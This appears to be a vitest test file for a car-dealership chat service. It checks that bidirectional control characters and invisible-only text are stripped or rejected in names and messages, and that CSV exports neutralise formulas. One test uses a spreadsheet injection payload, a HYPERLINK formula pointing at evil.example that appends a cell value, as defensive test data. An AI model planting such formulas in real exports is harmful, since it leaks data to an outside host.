/** User text in the service: names with bidirectional control characters, invisible text, and formulas. */
import Papa from 'papaparse'
import { beforeEach, describe, expect, it } from 'vitest'
import { chatConfig, saveChatConfig } from '../../src/contract/calls/chat-account'
import { conversationsCsv } from '../../src/contract/calls/conversations-csv'
import { inboundAdf, inboundEmail, inboundSms } from '../../src/contract/calls/intake'
import { replyMessage } from '../../src/contract/calls/reply'
import { widgetIdentify } from '../../src/contract/calls/widget'
import { hashOfKey } from '../../src/service/accounts/partner-keys'
import { adf, prospect } from './adf/shapes'
import { eachDatabase } from './support/databases'
import { openChat, reasonOf, site } from './support/chat'
import { requestOf } from './support/service'
import { askFrom, begun } from './support/shopper'
import { ACCOUNT, addConversation, USER } from './support/world'

const KEY = 'sk_test_text'
const MARKS = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/
const UNSEEN = [
  '\u200B',
  '\u202E\u2069',
  '\u3164',
  '\u2800 \u2800',
  '\uFE0F',
  '\u{E0061}\u{E007F}',
  '\u115F\u200D',
]
const range = { start_date: '2026-11-01T00:00:00', end_date: '2026-11-30T23:59:59' }

eachDatabase('text from people', (database) => {
  const chat = openChat(database)
  beforeEach(async () => {
    await chat.test.db
      .insertInto('partner_keys')
      .values({
        public_key: 'pk_test_text',
        group_id: 'g_northside',
        secret_hash: hashOfKey(KEY),
        name: 'text',
        created_at: chat.clock.now(),
      })
      .onConflict((conflict) => conflict.doNothing())
      .execute()
  })
  const receive = async (
    call: typeof inboundAdf | typeof inboundEmail | typeof inboundSms,
    input: object,
  ) => {
    const { path, init } = requestOf(call, { account_id: ACCOUNT.ford, ...input })
    const headers = { ...init.headers, authorization: `Bearer ${KEY}` }
    const answer = await chat.test.request(path, { ...init, headers })
    expect(answer.status).toBe(200)
    return (await answer.json()) as { conversation_id?: string; leads?: { conversation_id: string }[] }
  }

  describe('directional controls', () => {
    it('do not come in with the name of a lead, by file, mail or widget', async () => {
      const raw = adf(
        prospect({
          first: 'Ann\u202E',
          last: '\u2067Lee\u200F',
          email: 'ann@mail.example',
          provider: 'Auto\u202EMarket',
          vehicle: '<year>2026</year><make>Cal\u202Eder</make><model>Ter\u2067rane</model>',
        }),
      )
      const { leads } = await receive(inboundAdf, { raw })
      const id = leads?.[0]?.conversation_id ?? ''
      expect(await chat.leadOf(id)).toMatchObject({ first_name: 'Ann', last_name: 'Lee' })
      expect(await chat.conversationOf(id)).toMatchObject({ source_name: 'AutoMarket' })
      expect(JSON.stringify(await chat.linesOf(id))).not.toMatch(MARKS)

      const mail = await receive(inboundEmail, {
        raw: `From: =?utf-8?B?${btoa(unescape(encodeURIComponent('Bo \u202EKim')))}?= <bo@mail.example>\r\nTo: x@y.example\r\nSubject: Hi\r\n\r\nHello`,
      })
      expect(await chat.leadOf(mail.conversation_id ?? '')).toMatchObject({
        first_name: 'Bo',
        last_name: 'Kim',
      })

      const { token, id: shopper } = await begun(chat.test)
      await askFrom(chat.test, widgetIdentify, {
        site,
        token,
        first_name: 'Jo\u202E',
        last_name: '\u2066Bell',
      })
      expect(await chat.leadOf(shopper)).toMatchObject({ first_name: 'Jo', last_name: 'Bell' })
    })

    it('do not come in with the name that stands on the dealership’s public page', async () => {
      const of = { account_id: ACCOUNT.ford }
      await chat.setAccount({ customer_experience: true }, {})
      await chat.test.call(
        saveChatConfig,
        { ...of, chatbot_agent_name: 'Av\u202Ea\u2069' },
        { as: USER.admin },
      )
      expect(await chat.test.call(chatConfig, of, { as: USER.admin })).toMatchObject({
        chatbot_agent_name: 'Ava',
      })
    })
  })

  describe('text in which nothing can be seen', () => {
    it('is no reply and no name', async () => {
      const { id } = await addConversation(chat.test.db, { email: 'jo@mail.example' })
      await chat.say(id, 'Hello', { channel: 'email' })
      for (const [index, text] of UNSEEN.entries()) {
        const reply = chat.test.call(
          replyMessage,
          { account_id: ACCOUNT.ford, id, text, selectedChannel: 'email', client_id: `unseen-00${index}` },
          { as: USER.rep },
        )
        expect(await reasonOf(reply)).toMatchObject({
          status: 400,
          body: { fields: { text: 'Write a message' } },
        })
        await chat.setAccount({ customer_experience: true }, {})
        const agent = { account_id: ACCOUNT.ford, chatbot_agent_name: text }
        expect(await reasonOf(chat.test.call(saveChatConfig, agent, { as: USER.admin }))).toMatchObject({
          status: 400,
        })
      }
      expect(await chat.linesOf(id)).toHaveLength(1)
    })

    it('is no message of a shopper, whose emoji are', async () => {
      const { token, id } = await begun(chat.test)
      const client = await chat.socket(token)
      const before = (await chat.linesOf(id)).length
      client.send({ event: 'Message', id: 'emoji-0001', text: '👩‍🚀❤️' })
      await client.event('Ack')
      for (const [index, text] of UNSEEN.entries()) {
        const other = await chat.socket(token)
        other.send({ event: 'Message', id: `unseen-01${index}`, text })
        await other.event('Error')
      }
      const said = (await chat.linesOf(id)).filter(({ Initiator }) => Initiator === 'HUMAN')
      expect(said.map(({ Message }) => Message)).toEqual(['👩‍🚀❤️'])
      expect(before).toBeLessThan(3)
    })

    it('is said to be none where it came by SMS', async () => {
      const { conversation_id = '' } = await receive(inboundSms, {
        from: '+13125550177',
        to: '+13125550100',
        text: '\u200B\u3164',
        message_id: 'sms-unseen',
      })
      expect((await chat.linesOf(conversation_id)).map(({ Message }) => Message)).toContain('(no text)')
    })
  })

  it('holds no formula in an export, though it came in by the comment of a lead', async () => {
    const comments = '=HYPERLINK(&quot;http://evil.example/&quot;&amp;B2,&quot;open&quot;)<br/>please'
    await receive(inboundAdf, {
      raw: adf(prospect({ first: '@Ann', email: 'formula@mail.example', comments })),
    })
    const text = await chat.test.call(
      conversationsCsv,
      { name: 'all', account_id: ACCOUNT.ford, product: 'SALES_AI', ...range },
      { as: USER.rep },
    )
    const { data } = Papa.parse<Record<string, string>>(text.trimEnd(), { header: true })
    const row = data.find(({ Email }) => Email === 'formula@mail.example')
    expect(row?.Customer).toBe("'@Ann Bell")
    expect(row?.['Customer’s Last Message']).toMatch(
      /^'=HYPERLINK\("http:\/\/evil\.example\/"&B2,"open"\)\nplease/,
    )
  })
})
